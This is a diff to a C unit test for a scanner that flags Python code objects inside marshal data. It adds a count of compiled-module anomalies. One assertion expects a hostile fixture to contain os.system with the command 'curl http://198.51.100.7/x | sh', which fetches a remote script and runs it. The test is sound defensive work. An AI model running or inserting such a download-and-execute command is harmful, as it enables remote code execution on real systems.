@@ -24,6 +24,7 @@ static struct format_case c;
 
 /* What was told of code objects: "code|file|names|constants\n" of each. */
 static struct buf told;
+static unsigned modules;
 
 static int
 on_anomaly(void *ctx, const struct ev_anomaly *a)
@@ -31,10 +32,12 @@ on_anomaly(void *ctx, const struct ev_anomaly *a)
 	(void)ctx;
 	if (a->id != ANOMALY_PYTHON_CODE)
 		return 0;
-	assert_int_equal(a->nfacts, 4);
-	for (unsigned i = 0; i < a->nfacts; i++) {
+	/* A fifth says that it is of a compiled module. */
+	assert_in_range(a->nfacts, 4, 5);
+	modules += a->nfacts == 5;
+	for (unsigned i = 0; i < 4; i++) {
 		buf_put(&told, a->facts[i].text, a->facts[i].len);
-		buf_putc(&told, i + 1 < a->nfacts ? '|' : '\n');
+		buf_putc(&told, i < 3 ? '|' : '\n');
 	}
 	return 0;
 }
@@ -164,8 +167,10 @@ each_version_is_read_by_its_magic_number(void **state)
 			buf_putc(&b, 0);
 		put_code(&b, versions[i].numbers, versions[i].plus);
 		assert_int_equal(buf_failed(&b), 0);
+		modules = 0;
 		if (tell(&format_marshal, b.p, b.len) != 0)
 			fail_msg("%s: not read", versions[i].version);
+		assert_int_equal(modules, 1);
 		assert_string_equal(buf_str(&told), versions[i].plus ?
 		    F("A.f") : F("f"));
 		assert_true(format_case_bid(&format_marshal, b.p, b.len) > 0);
@@ -202,7 +207,9 @@ real_code_of_311_is_read(void **state)
 	uint8_t *p = format_case_sample("marshal/hostile", &n);
 
 	(void)state;
+	modules = 0;
 	assert_int_equal(tell(&format_marshal, p, n), 0);
+	assert_int_equal(modules, 0);
 	free(p);
 	assert_non_null(strstr(buf_str(&told), "f|m.py|'os', 'system'|"
 	    "'curl http://198.51.100.7/x | sh'\n"));
